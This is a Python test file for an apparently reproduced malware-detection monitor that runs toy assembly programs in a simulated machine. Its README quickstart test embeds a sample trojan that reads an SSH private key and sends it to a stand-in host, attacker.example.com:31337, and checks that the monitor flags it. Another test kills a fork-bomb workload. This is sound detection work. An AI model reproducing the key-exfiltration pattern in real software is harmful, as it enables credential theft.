"""Cross-cutting integration tests: example scripts stay runnable, the
README quickstart works, and whole-pipeline behaviours hold together."""

import pathlib
import runpy

import pytest

EXAMPLES_DIR = pathlib.Path(__file__).parent.parent / "examples"


@pytest.mark.parametrize(
    "script",
    sorted(p.name for p in EXAMPLES_DIR.glob("*.py")),
)
def test_example_scripts_run(script, capsys):
    """Every shipped example must execute end-to-end."""
    runpy.run_path(str(EXAMPLES_DIR / script), run_name="__main__")
    out = capsys.readouterr().out
    assert out.strip()  # each example narrates something


class TestReadmeQuickstart:
    def test_readme_code_block(self):
        from repro import HTH, Verdict
        from repro.isa import assemble
        from repro.kernel.network import SinkPeer

        TROJAN = r"""
main:
    mov ebx, secret
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 96
    call read
    mov edi, eax
    mov ebx, home
    call gethostbyname
    mov ecx, eax
    call socket
    mov ebx, eax
    mov edx, 31337
    push ebx
    call connect_addr
    pop ebx
    mov ecx, buf
    mov edx, edi
    call write
    mov eax, 0
    ret
.data
secret: .asciz "/home/user/.ssh/id_rsa"
home:   .asciz "attacker.example.com"
buf:    .space 96
"""
        hth = HTH()
        hth.fs.write_text("/home/user/.ssh/id_rsa", "-----PRIVATE KEY-----")
        hth.network.add_peer(
            "attacker.example.com", 31337, lambda: SinkPeer("c2")
        )
        report = hth.run(assemble("/usr/bin/applet", TROJAN))
        assert report.verdict is Verdict.HIGH
        rendered = report.render_warnings()
        assert "Data Flowing From: /home/user/.ssh/id_rsa" in rendered
        assert "attacker.example.com:31337" in rendered


class TestWholePipeline:
    def test_kill_on_medium_stops_fork_bomb(self):
        """Enforcement: killing at Medium caps a fork bomb's process
        count near the rate threshold."""
        from repro.programs.micro.resource import table5_workloads
        from repro.secpert.warnings import Severity

        workload = [w for w in table5_workloads()
                    if w.name == "tree forker"][0]
        hth = workload.build_machine()
        hth.harrier.decision = (
            lambda warning: warning.severity < Severity.MEDIUM
        )
        report = hth.run(workload.image(), argv=workload.argv)
        killed = [p for p in hth.kernel.procs.values()
                  if p.killed_by_monitor]
        assert killed  # at least one process was stopped mid-bomb

    def test_fresh_machines_are_independent(self):
        from repro.core.hth import HTH
        from repro.isa import assemble

        source = "main:\n  mov eax, 0\n  ret"
        a = HTH()
        b = HTH()
        a.fs.write_text("/only-in-a", "x")
        a.run(assemble("/bin/t", source))
        b.run(assemble("/bin/t", source))
        assert a.fs.exists("/only-in-a")
        assert not b.fs.exists("/only-in-a")

    def test_two_programs_sequential_on_one_machine(self):
        """HTH.run can be called repeatedly; state persists (the
        cross-session substrate)."""
        from repro.core.hth import HTH
        from repro.isa import assemble

        writer = assemble(
            "/bin/writer",
            """
main:
    mov ebx, path
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, msg
    call fputs
    mov eax, 0
    ret
.data
path: .asciz "/tmp/persist"
msg: .asciz "left behind"
""",
        )
        reader = assemble(
            "/bin/reader",
            """
main:
    mov ebx, path
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 32
    call read
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    call write
    mov eax, 0
    ret
.data
path: .asciz "/tmp/persist"
buf: .space 32
""",
        )
        hth = HTH()
        hth.run(writer)
        report = hth.run(reader)
        assert "left behind" in report.console_output

    def test_full_corpus_no_guest_faults(self):
        """No workload in the entire evaluation corpus crashes the VM."""
        from repro.programs.exploits import table8_workloads
        from repro.programs.extensions import extension_workloads
        from repro.programs.macro import macro_workloads
        from repro.programs.micro.execflow import table4_workloads
        from repro.programs.micro.resource import table5_workloads
        from repro.programs.trusted import table7_workloads

        corpus = (
            table4_workloads() + table5_workloads() + table7_workloads()
            + table8_workloads() + macro_workloads() + extension_workloads()
        )
        for workload in corpus:
            report = workload.run()
            assert not report.faults, (workload.name, report.faults)
